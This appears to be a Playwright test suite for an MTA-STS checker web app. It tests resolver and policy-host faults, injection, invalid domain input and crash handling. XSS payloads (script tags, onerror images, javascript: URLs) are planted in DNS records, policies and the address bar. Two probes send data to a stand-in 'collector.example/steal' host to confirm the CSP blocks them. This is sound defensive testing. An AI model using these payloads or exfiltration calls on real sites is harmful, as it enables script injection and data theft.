// Hostile input and faults (issue 6): resolvers and policy hosts that fail or lie, markup and
// script wherever a stranger or the address bar can put text, input that is no domain, and a
// panic. Every case must finish within its stated bound, with no page error, no injected
// script run, no dialog, no CSP violation and no element built from outside text. The CSP is
// in force here (no bypassCSP): it is part of what is tested.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { domainToASCII } from 'node:url';
import { isolatedContext, watchErrors, useSite, server, browser, BASE_PATH } from './support.mjs';
import { answer, routePolicy, healthyZone, policyReply, ENFORCE_POLICY } from './dns.mjs';

useSite();

const D = 'example.com';
// The app's own time limits (src/check.rs): 5 s per DoH resolver, 15 s for the policy fetch.
const DNS_LIMIT_MS = 5_000;
const FETCH_LIMIT_MS = 15_000;
// Page load, wasm start and the check itself, when nothing has to time out.
const SLACK_MS = 3_000;

const SCRIPT = '<script>window.__pwned=1</script>';
const IMG = '<img src=x onerror="window.__pwned=1">';
const IMG_ALERT = '<img/src=x/onerror=alert(1)>';

/** Runs before any page script: the `__pwned` trap, and a log of CSP violations. */
function installTraps() {
  let value;
  let writes = 0;
  Object.defineProperty(window, '__pwned', {
    configurable: false,
    get: () => value,
    set: (v) => {
      writes += 1;
      value = v;
    },
  });
  Object.defineProperty(window, '__pwnedWrites', { value: () => writes });
  const violations = [];
  Object.defineProperty(window, '__cspViolations', { value: violations });
  document.addEventListener(
    'securitypolicyviolation',
    (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}`),
    true,
  );
}

/**
 * Answers both DoH providers from `zone` (dns.mjs's format), unless `faults[provider]` says
 * otherwise: a Playwright fulfil object, 'hang' (never answered) or 'abort'. `faults` may also
 * be a function of (provider, name) returning one of those, or nothing for a normal answer.
 */
async function routeResolvers(context, zone, faults = {}) {
  const log = [];
  const handler = (provider) => async (route) => {
    const url = new URL(route.request().url());
    const name = url.searchParams.get('name') ?? '';
    const type = (url.searchParams.get('type') ?? '').toUpperCase();
    const cd = url.searchParams.get('cd') === '1';
    log.push({ provider, name, type, cd });
    const fault = typeof faults === 'function' ? faults(provider, name) : faults[provider];
    if (fault === 'hang') return undefined;
    if (fault === 'abort') return route.abort('connectionrefused');
    if (fault) return route.fulfill(fault);
    return route.fulfill({
      status: 200,
      contentType: 'application/json',
      body: JSON.stringify(answer(zone, provider, name, type, cd)),
    });
  };
  await context.route('https://dns.google/**', handler('google'));
  await context.route('https://cloudflare-dns.com/**', handler('cloudflare'));
  return log;
}

/**
 * Opens `path` (a query string such as `?domain=example.com`) with the given DNS zone, DNS
 * faults and policy answer. Returns the page and what `finish` needs.
 */
async function open({ zone = healthyZone(D), faults, policy = policyReply(ENFORCE_POLICY(D)),
  policyDomain = D, path = `?domain=${D}`, setup } = {}) {
  const { context, outside } = await isolatedContext(browser, server);
  await context.addInitScript(installTraps);
  const dns = await routeResolvers(context, zone, faults);
  const policyHits = await routePolicy(context, policyDomain, policy);
  await setup?.(context);
  const page = await context.newPage();
  const errors = watchErrors(page);
  const dialogs = [];
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    dialog.dismiss().catch(() => {});
  });
  const started = Date.now();
  await page.goto(server.url + path);
  return { context, page, errors, outside, dialogs, dns, policyHits, started };
}

/** Waits for the finished report, failing when it takes longer than `boundMs`. */
async function done(t, boundMs) {
  const report = t.page.locator('[data-report][data-state=done]');
  await report.waitFor({ timeout: Math.max(1, boundMs - (Date.now() - t.started)) });
  const took = Date.now() - t.started;
  assert.ok(took <= boundMs, `finished in ${took} ms, bound ${boundMs} ms`);
  return took;
}

/** Still responsive: a click opens the settings within a second. */
async function answersClick(page) {
  const clicked = Date.now();
  await page.locator('details.settings summary').click();
  await page.locator('details.settings[open]').waitFor({ timeout: 1000 });
  assert.ok(Date.now() - clicked < 1000, 'the page answers a click within a second');
}

/** The directive of the next CSP violation on the page, or null when none comes within 2 s. */
function nextViolation(page) {
  return page.evaluate(() => new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
    setTimeout(() => resolve(null), 2000);
  }));
}

/** Nothing ran, nothing was built from outside text, nothing else went wrong. */
async function finish(t, { allowErrors = [] } = {}) {
  const state = await t.page.evaluate(() => ({
    pwned: window.__pwned,
    writes: window.__pwnedWrites(),
    violations: [...window.__cspViolations],
    // The app renders no images, frames or inline scripts: any such element came from outside.
    injected: [...document.querySelectorAll('img, iframe, object, embed, svg, script:not([src])')]
      .map((e) => e.outerHTML.slice(0, 120)),
  }));
  assert.equal(state.pwned, undefined, 'window.__pwned stays undefined');
  assert.equal(state.writes, 0, 'no script wrote window.__pwned');
  assert.deepEqual(state.violations, [], 'no CSP violation (nothing was read as markup)');
  assert.deepEqual(state.injected, [], 'no element built from outside text');
  assert.deepEqual(t.dialogs, [], 'no dialog opened');
  const errors = t.errors.filter((e) => !allowErrors.some((re) => re.test(e)));
  assert.deepEqual(errors, [], 'no page error');
  assert.deepEqual(t.outside, [], 'no request outside the fixtures');
  await t.context.close();
}

const severity = (page, id) => page.locator(`[data-check="${id}"]`).getAttribute('data-severity');
const checkText = (page, id) => page.locator(`[data-check="${id}"]`).textContent();

// ---------------------------------------------------------------------------------------------
// 1. Resolver faults. Each is served by both providers, so every DNS check must end `unknown`
// with both resolvers' errors as evidence: Google (asked first) and Cloudflare (the fallback).

const HTML_PAGE = `<!doctype html><html><head><title>Blocked</title></head><body><h1>Access denied</h1>${SCRIPT}${IMG}</body></html>`;
const json = (body) => ({ status: 200, contentType: 'application/json', body });

const resolverFaults = [
  { name: 'HTTP 400', fault: { status: 400, body: 'bad request' }, evidence: /HTTP 400/ },
  { name: 'HTTP 500', fault: { status: 500, body: 'internal error' }, evidence: /HTTP 500/ },
  {
    name: 'HTTP 429',
    fault: { status: 429, headers: { 'retry-after': '3600' }, body: 'slow down' },
    evidence: /HTTP 429/,
  },
  {
    name: 'an HTML page with status 200',
    fault: { status: 200, contentType: 'text/html', body: HTML_PAGE },
    evidence: /not DNS JSON/,
  },
  {
    name: 'truncated JSON',
    fault: json('{"Status":0,"TC":false,"Answer":[{"name":"_mta-sts.example.com.","type":16,"TTL":3'),
    evidence: /not DNS JSON/,
  },
  { name: 'JSON []', fault: json('[]'), evidence: /not an object/ },
  { name: 'JSON {"Status":"0"}', fault: json('{"Status":"0"}'), evidence: /Status is not a DNS response code/ },
  {
    name: 'an Answer that is not a list',
    fault: json('{"Status":0,"Answer":{"name":"x.","type":16,"TTL":1,"data":"v=STSv1; id=1"}}'),
    evidence: /Answer section is not a list/,
  },
  {
    name: 'a 1 MB answer',
    fault: json(`{"Status":0,"Comment":"${'x'.repeat(1024 * 1024)}"}`),
    evidence: /larger than any DNS answer/,
  },
  {
    name: 'resolvers that never answer',
    fault: 'hang',
    // Google's 5 s, then Cloudflare's 5 s: every lookup runs at once, so 10 s in all.
    bound: 2 * DNS_LIMIT_MS + SLACK_MS,
    evidence: /no answer within 5000 ms/,
  },
  {
    name: 'both resolvers down (503 and refused)',
    faults: { google: { status: 503, body: 'unavailable' }, cloudflare: 'abort' },
    evidence: { google: /HTTP 503/, cloudflare: /request failed/ },
  },
];

for (const s of resolverFaults) {
  const bound = s.bound ?? 2 * SLACK_MS;
  test(`resolver fault: ${s.name} (done within ${bound / 1000} s)`, async () => {
    const faults = s.faults ?? { google: s.fault, cloudflare: s.fault };
    const t = await open({ faults });
    await done(t, bound);
    for (const id of ['sts-record', 'mx-records', 'tlsrpt-record', 'policy-host']) {
      assert.equal(await severity(t.page, id), 'unknown', `${id} is unknown`);
    }
    assert.equal(await t.page.locator('[data-report]').getAttribute('data-verdict'), 'unverified');
    for (const id of ['sts-record', 'mx-records', 'tlsrpt-record']) {
      const text = await checkText(t.page, id);
      for (const provider of ['Google', 'Cloudflare']) {
        const want = s.evidence instanceof RegExp ? s.evidence : s.evidence[provider.toLowerCase()];
        assert.match(text, new RegExp(`${provider}: [^\\n]*${want.source}`),
          `${id}: the evidence names ${provider}'s error`);
      }
    }
    const asked = new Set(t.dns.filter((q) => q.name === `_mta-sts.${D}`).map((q) => q.provider));
    assert.deepEqual([...asked].sort(), ['cloudflare', 'google'], 'the fallback was tried');
    await finish(t);
  });
}

test('resolver fault: Google never answers, Cloudflare does (done within 8 s)', async () => {
  const t = await open({ faults: { google: 'hang' } });
  await done(t, DNS_LIMIT_MS + SLACK_MS);
  assert.equal(await t.page.locator('[data-report]').getAttribute('data-verdict'), 'enforce');
  assert.equal(await severity(t.page, 'mx-coverage'), 'pass');
  assert.ok(t.dns.some((q) => q.provider === 'cloudflare'), 'the fallback answered');
  await finish(t);
});

test('resolver fault: a check that hangs is cancelled by the next one (done within 6 s)', async () => {
  const slow = 'slow.example';
  const t = await open({
    faults: (_, name) => (name.endsWith(slow) ? 'hang' : undefined),
    path: `?domain=${slow}`,
    setup: (context) => routePolicy(context, slow, 'hang'),
  });
  await t.page.locator(`[data-report][data-domain="${slow}"][data-state=running]`).waitFor();
  const input = t.page.locator('form input[name=domain]');
  await input.fill(D);
  const typed = Date.now();
  await input.press('Enter');
  await t.page.locator(`[data-report][data-domain="${D}"][data-state=done]`)
    .waitFor({ timeout: 2 * SLACK_MS });
  assert.ok(Date.now() - typed <= 2 * SLACK_MS);
  assert.equal(await t.page.locator('[data-report]').getAttribute('data-verdict'), 'enforce');
  // The cancelled check's lookups end at once and change nothing.
  await t.page.waitForTimeout(1000);
  assert.equal(await t.page.locator('[data-report]').count(), 1);
  assert.equal(await t.page.locator('[data-report]').getAttribute('data-domain'), D);
  assert.equal(await t.page.locator('[data-report]').getAttribute('data-state'), 'done');
  await finish(t);
});

// A DoH answer under the transport's 256 KiB cap holds some 3000 MX records. Beyond five
// uncovered hosts the engine gives one mx-coverage finding with a bounded list, so the report
// stays small (it used to grow with the square of their number).
test('resolver answer: 1000 MX hosts stay within bounds (done within 6 s)', async () => {
  const mx = Array.from({ length: 1000 }, (_, i) => [10 + i, `mx${i}.${D}`]);
  const t = await open({ zone: healthyZone(D, { [D]: { MX: mx } }) });
  await done(t, 2 * SLACK_MS);
  assert.equal(await severity(t.page, 'mx-coverage'), 'fail', '998 hosts are not covered');
  await answersClick(t.page);
  await finish(t);
});

// ---------------------------------------------------------------------------------------------
// 2. Policy-host faults. DNS is healthy; only the policy host misbehaves.

test('policy host: no answer is a timeout, reported as such (done within 18 s)', async () => {
  const t = await open({ policy: 'hang' });
  await done(t, FETCH_LIMIT_MS + SLACK_MS);
  assert.equal(await severity(t.page, 'policy-fetch'), 'fail');
  const text = await checkText(t.page, 'policy-fetch');
  assert.match(text, /did not answer within 15 seconds/);
  assert.match(text, /no answer after 15000 ms/);
  assert.equal(await severity(t.page, 'mx-coverage'), 'skip');
  await finish(t);
});

test('policy host: a 5 MB answer is cut at 64 KiB + 1 byte, its size reported (done within 6 s)', async () => {
  const line = `mx: mx1.${D}\n`;
  const size = 5 * 1024 * 1024;
  const body = (ENFORCE_POLICY(D) + line.repeat(Math.ceil(size / line.length))).slice(0, size);
  const t = await open({ policy: policyReply(body) });
  await done(t, 2 * SLACK_MS);
  assert.equal(await severity(t.page, 'policy-syntax'), 'fail');
  const text = await checkText(t.page, 'policy-syntax');
  assert.match(text, /larger than 64 KiB/);
  assert.match(text, new RegExp(`${size}|5 MiB|5 MB`), 'the finding gives the real size');
  // What the app kept of the body: the editor holds the fetched text.
  const kept = await t.page.locator('textarea[name=policy]').inputValue();
  assert.ok(kept.length <= 64 * 1024 + 1, `read ${kept.length} characters, at most 65537`);
  await answersClick(t.page);
  await finish(t);
});

test('policy host: answers without CORS, then the no-cors probe hangs (done within 18 s)', async () => {
  // Playwright does not show the request mode; the first request is the cors read, the second
  // the no-cors probe (src/transport/policy.rs).
  let requests = 0;
  const t = await open({
    policyDomain: 'unused.example',
    setup: (context) => context.route(`https://mta-sts.${D}/**`, (route) => {
      requests += 1;
      if (requests === 1) {
        return route.fulfill({
          status: 200,
          headers: { 'content-type': 'text/plain', 'access-control-allow-origin': 'https://elsewhere.invalid' },
          body: ENFORCE_POLICY(D),
        });
      }
      return undefined; // the probe is never answered
    }),
  });
  await done(t, FETCH_LIMIT_MS + SLACK_MS);
  assert.equal(requests, 2, 'the refused read was followed by the probe');
  assert.equal(await severity(t.page, 'policy-fetch'), 'fail');
  assert.match(await checkText(t.page, 'policy-fetch'), /no answer after 15000 ms/);
  await finish(t);
});

/** A deterministic byte soup: every byte value, NULs and invalid UTF-8 included. */
function garbage(n) {
  const out = Buffer.alloc(n);
  let x = 0x2545f491;
  for (let i = 0; i < n; i++) {
    x ^= x << 13; x ^= x >>> 17; x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

const withBytes = (prefix, bytes, suffix) =>
  Buffer.concat([Buffer.from(prefix), Buffer.from(bytes), Buffer.from(suffix)]);
const MX_LINES = `mx: mx1.${D}\nmx: mx2.${D}\nmax_age: 1209600\n`;

const policyFaults = [
  {
    name: 'binary garbage',
    policy: policyReply(garbage(4096), { 'content-type': 'application/octet-stream' }),
    checks: { 'policy-syntax': 'fail', 'policy-content-type': 'warn', 'policy-version': 'fail' },
  },
  {
    name: 'invalid UTF-8',
    policy: policyReply(withBytes('version: STSv1\nmode: enf', [0xff, 0xfe, 0xc3], `rce\n${MX_LINES}`)),
    checks: { 'policy-syntax': 'fail', 'policy-mode': 'fail' },
    text: { 'policy-syntax': /Line 2 is not valid UTF-8/ },
  },
  {
    name: 'NUL bytes',
    policy: policyReply(withBytes('version: STSv1\nmode: enforce', [0, 0, 0], `\n${MX_LINES}`)),
    checks: { 'policy-syntax': 'fail', 'policy-mode': 'fail' },
    text: { 'policy-syntax': /control character NUL/ },
  },
  {
    name: 'a byte-order mark',
    policy: policyReply(withBytes('', [0xef, 0xbb, 0xbf], ENFORCE_POLICY(D))),
    checks: { 'policy-syntax': 'fail', 'policy-version': 'pass' },
    text: { 'policy-syntax': /byte order mark/ },
  },
  {
    name: 'a captive-portal page with status 200',
    policy: policyReply(
      `<!doctype html>\n<html><head><title>Sign in to Guest Wi-Fi</title></head>\n<body><form action="/login">${IMG}\n${SCRIPT}\n</form></body></html>\n`,
      { 'content-type': 'text/html; charset=utf-8' }),
    checks: { 'policy-syntax': 'fail', 'policy-content-type': 'warn', 'policy-mode': 'fail' },
    text: { 'policy-syntax': /<script>window\.__pwned=1<\/script>|<img src=x/ },
    raw: [SCRIPT, IMG],
  },
  {
    name: 'markup and script in the policy',
    policy: policyReply(`version: STSv1\nmode: enforce\n${SCRIPT}\n${IMG}\n${MX_LINES}`),
    checks: { 'policy-syntax': 'fail' },
    text: { 'policy-syntax': /<script>window\.__pwned=1<\/script>/ },
    raw: [SCRIPT, IMG],
  },
];

for (const s of policyFaults) {
  test(`policy host: ${s.name} (done within 6 s)`, async () => {
    const t = await open({ policy: s.policy });
    await done(t, 2 * SLACK_MS);
    for (const [id, want] of Object.entries(s.checks)) {
      const allowed = Array.isArray(want) ? want : [want];
      const got = await severity(t.page, id);
      assert.ok(allowed.includes(got), `${id} is ${got}, expected ${allowed.join(' or ')}`);
    }
    for (const [id, pattern] of Object.entries(s.text ?? {})) {
      assert.match(await checkText(t.page, id), pattern, `${id} shows the text`);
    }
    if (s.raw) {
      // The policy as read lists the markup as text, line by line.
      const lines = await t.page.locator('ol.policy-lines li').allTextContents();
      for (const payload of s.raw) {
        assert.ok(lines.some((l) => l.includes(payload)), `the raw policy shows ${payload} as text`);
      }
    }
    await finish(t);
  });
}

// ---------------------------------------------------------------------------------------------
// 3. Injection: payloads wherever outside text is shown, and the CSP itself.

test('injection: markup in TXT records, MX names, mx lines and Content-Type is shown as text (done within 6 s)', async () => {
  const zone = healthyZone(D, {
    [D]: { MX: [[10, `mx1.${D}`], [20, `${IMG_ALERT}.${D}`], [30, `${SCRIPT}.${D}`]] },
    [`_mta-sts.${D}`]: { TXT: [`v=STSv1; id=${SCRIPT}`] },
    [`_smtp._tls.${D}`]: { TXT: [`v=TLSRPTv1; rua=mailto:${IMG}@${D}`] },
    [`mta-sts.${D}`]: { CNAME: `${IMG_ALERT}.cdn.example` },
  });
  const policy = `version: STSv1\nmode: testing\nmx: mx1.${D}\nmx: ${SCRIPT}\nmx: ${IMG_ALERT}\nmax_age: 86400\n`;
  const contentType = `text/html; charset="${SCRIPT}"`;
  const t = await open({ zone, policy: policyReply(policy, { 'content-type': contentType }) });
  await done(t, 2 * SLACK_MS);
  const shown = {
    'sts-record': SCRIPT,
    'tlsrpt-record': IMG,
    'mx-records': IMG_ALERT,
    'policy-mx': SCRIPT,
    'policy-content-type': contentType,
    'policy-host': IMG_ALERT,
  };
  for (const [id, payload] of Object.entries(shown)) {
    assert.ok((await checkText(t.page, id)).includes(payload), `${id} shows ${payload} as text`);
  }
  const coverage = await checkText(t.page, 'mx-coverage');
  assert.ok(coverage.includes(SCRIPT) || coverage.includes(IMG_ALERT), 'mx-coverage names the hostile MX as text');
  await finish(t);
});

test('injection: markup pasted into the policy editor is shown as text', async () => {
  const t = await open();
  await done(t, 2 * SLACK_MS);
  await t.page.locator('textarea[name=policy]').fill(`${ENFORCE_POLICY(D)}${SCRIPT}\n${IMG}\n`);
  await t.page.waitForFunction(() =>
    document.querySelector('[data-check="policy-syntax"]').dataset.severity === 'fail');
  const diff = await t.page.locator('[data-diff]').textContent();
  assert.ok(diff.includes(`+ ${SCRIPT}`) && diff.includes(`+ ${IMG}`), 'the diff shows the markup as text');
  await finish(t);
});

// The checker's `?domain=`, the assistant page's, and the old `?setup=`, which the checker
// forwards to the assistant page.
const addressPayloads = [
  ['?domain=', 'javascript:window.__pwned=1'],
  ['?domain=', 'javascript:alert(1)'],
  ['?domain=', SCRIPT],
  ['?domain=', `"><svg onload=alert(1)>`],
  ['setup/?domain=', 'javascript:alert(1)'],
  ['setup/?domain=', SCRIPT],
  ['setup/?domain=', IMG],
  ['?setup=', SCRIPT],
  ['?setup=', IMG],
  ['?domain=', `${'a'.repeat(10_000)}.example`],
];

for (const [param, payload] of addressPayloads) {
  test(`injection: ${param}${payload.slice(0, 40)} is refused as input, nothing runs (within 3 s)`, async () => {
    const t = await open({ path: `${param}${encodeURIComponent(payload)}` });
    const error = t.page.locator('[data-input-error]');
    await error.waitFor({ timeout: SLACK_MS });
    assert.ok((await error.textContent()).trim().length > 10, 'a reason is given');
    assert.equal(await t.page.locator('[data-report]').count(), 0, 'no report');
    assert.equal(await t.page.locator('[data-setup]').count(), 0, 'no assistant');
    if (param === '?setup=') {
      assert.equal(new URL(t.page.url()).pathname, '/mta-sts-checker/setup/', 'forwarded');
    }
    if (param === '?domain=') {
      assert.equal(await t.page.locator('input[name=domain]').inputValue(), payload,
        'the input shows the text as it was, as text');
    }
    // No lookup started: give one a moment to start, then look.
    await t.page.waitForTimeout(300);
    assert.deepEqual(t.dns, [], 'no DoH request');
    assert.deepEqual(t.policyHits, [], 'no policy fetch');
    await finish(t);
  });
}

// Both pages carry the same CSP; the assistant page is opened without a domain, so it only asks
// for one.
const cspPages = [['checker', '', 'form input[name=domain]'], ['assistant', 'setup/', 'form input[name=domain]']];
for (const [name, path, ready] of cspPages) {
  test(`the CSP is in force on the ${name} page: an injected inline script does not run`, async () => {
    const t = await open({ path });
    await t.page.locator(ready).waitFor();
    const csp = await t.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
    const violation = nextViolation(t.page);
    await t.page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = 1';
      document.body.append(s);
    });
    assert.match(await violation ?? '', /^script-src/, 'a securitypolicyviolation event fired');
    assert.equal(await t.page.evaluate(() => window.__pwnedWrites()), 0, 'the inline script did not run');
    // The same for an inline event handler.
    await t.page.evaluate(() => {
      const b = document.createElement('button');
      b.setAttribute('onclick', 'window.__pwned = 1');
      document.body.append(b);
      b.click();
      b.remove();
    });
    assert.equal(await t.page.evaluate(() => window.__pwnedWrites()), 0, 'the inline handler did not run');
    // connect-src: a page script may not talk to any other host over plain http.
    const refused = nextViolation(t.page);
    const fetched = await t.page.evaluate(() =>
      fetch('http://collector.example/steal').then(() => 'sent', (e) => `refused: ${e.message}`));
    assert.match(fetched, /^refused/);
    assert.equal(await refused, 'connect-src', 'connect-src refused the request');
    assert.deepEqual(t.outside, [], 'the request never left the page');
    // The trap itself works: a write from outside the page's content is seen.
    await t.page.evaluate(() => { window.__pwned = 1; });
    assert.equal(await t.page.evaluate(() => window.__pwnedWrites()), 1, 'the trap counts writes');
    await t.context.close();
  });
}

// form-action: the checker's form never navigates ('none'); the assistant's domain form is a
// plain GET of its own page, which its CSP allows ('self'), and nothing else.
test('form-action: the assistant\'s domain form submits to its own page, and to nowhere else', async () => {
  const t = await open({ path: 'setup/' });
  await t.page.locator('form input[name=domain]').waitFor();
  assert.match(await t.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'),
    /form-action 'self'/);
  // The page's own form goes through.
  await t.page.locator('form input[name=domain]').fill(D);
  await t.page.getByRole('button', { name: 'Set up' }).click();
  await t.page.locator('[data-setup]').waitFor();
  assert.equal(new URL(t.page.url()).searchParams.get('domain'), D);
  // A form injected to post elsewhere is refused (last: the blocked navigation stays pending
  // for Playwright).
  const refused = nextViolation(t.page);
  await t.page.evaluate(() => {
    const f = document.createElement('form');
    f.method = 'post';
    f.action = 'https://collector.example/steal';
    document.body.append(f);
    f.submit();
  });
  assert.equal(await refused, 'form-action');
  assert.equal(new URL(t.page.url()).pathname, `${BASE_PATH}setup/`);
  assert.deepEqual(t.outside, [], 'nothing left for another host');
  await t.context.close();
});

// ---------------------------------------------------------------------------------------------
// 4. Input that is no domain: a clear reason, and no lookup.

const badInputs = [
  ['empty', '', /Enter a domain/],
  ['spaces only', '   ', /Enter a domain/],
  ['300 characters', `${'a'.repeat(60)}.`.repeat(5), /too long/],
  ['a label over 63 characters', `${'a'.repeat(64)}.${D}`, /64 characters long; DNS allows 63/],
  ['an IPv4 address', '192.0.2.1', /IP address/],
  ['an IPv6 address', '2001:db8::1', /IP address/],
  ['a bracketed IPv6 address', '[2001:db8::1]', /IP address/],
  ['an IPv6 URL', 'https://[2001:db8::1]:443/', /IP address/],
  ['an IPv4 URL', 'http://192.0.2.1/', /IP address/],
  ['a javascript: URL', 'javascript:window.__pwned=1', /Only a domain/],
  ['a JavaScript: URL in capitals', '  JavaScript:alert(1)', /Only a domain/],
  ['markup', IMG, /markup/],
  ['a script tag', SCRIPT, /markup/],
  ['several @', 'a@b@example.com', /exactly one @/],
];

test('input: what is no domain gets a clear reason and starts no lookup (each within 1 s)', async () => {
  const t = await open({ path: '' });
  const input = t.page.locator('form input[name=domain]');
  await input.waitFor();
  for (const [name, text, reason] of badInputs) {
    // A fresh page each time, so the reason seen is this input's and not the last one's.
    await t.page.goto(server.url);
    await input.fill(text);
    const typed = Date.now();
    await input.press('Enter');
    const error = t.page.locator('[data-input-error]');
    await error.waitFor({ timeout: 1000 });
    assert.ok(Date.now() - typed < 1000, `${name}: answered within a second`);
    assert.match(await error.textContent(), reason, `${name}: the reason`);
    assert.equal(await t.page.locator('[data-report]').count(), 0, `${name}: no report`);
  }
  await t.page.waitForTimeout(300);
  assert.deepEqual(t.dns, [], 'no DoH request reached a resolver');
  assert.deepEqual(t.policyHits, [], 'no policy fetch');
  assert.equal(new URL(t.page.url()).search, '', 'the address bar is unchanged');
  await finish(t);
});

test('input: a look-alike letter is shown as typed and as A-label (done within 6 s)', async () => {
  const typed = 'exаmple.com'; // Cyrillic а (U+0430)
  const ascii = domainToASCII(typed);
  assert.match(ascii, /^xn--/);
  const zone = healthyZone(ascii);
  for (const how of ['form', 'address']) {
    const t = await open({
      zone, policyDomain: ascii, policy: policyReply(ENFORCE_POLICY(ascii)),
      path: how === 'form' ? '' : `?domain=${encodeURIComponent(typed)}`,
    });
    if (how === 'form') {
      await t.page.locator('form input[name=domain]').fill(typed);
      await t.page.locator('form input[name=domain]').press('Enter');
    }
    await done(t, 2 * SLACK_MS);
    const note = await t.page.locator('[data-idn]').textContent();
    assert.ok(note.includes(typed), `${how}: the note shows the name as typed`);
    assert.ok(note.includes(ascii), `${how}: the note shows the A-label ${ascii}`);
    assert.equal(await t.page.locator('[data-report]').getAttribute('data-domain'), ascii);
    await finish(t);
  }
});

// ---------------------------------------------------------------------------------------------
// 5. A panic shows the crash notice with a reload link.

test('a panic shows the crash notice with a reload link (within 2 s)', async () => {
  const t = await open({ path: '' });
  await t.page.locator('form input[name=domain]').waitFor();
  await assert.rejects(t.page.evaluate(() => window.wasmBindings.crash_for_test()),
    'the call throws');
  const crash = t.page.locator('[data-crash]');
  await crash.waitFor({ state: 'visible', timeout: 2000 });
  assert.match(await crash.textContent(), /crash_for_test was called/);
  const reload = crash.getByRole('link', { name: /reload/i });
  assert.equal(await reload.count(), 1, 'a reload link');
  await reload.click();
  await t.page.locator('form input[name=domain]').waitFor({ timeout: 5000 });
  assert.equal(await t.page.locator('[data-crash]').count(), 0, 'the reloaded page works');
  await finish(t, { allowErrors: [/crash_for_test was called/] });
});
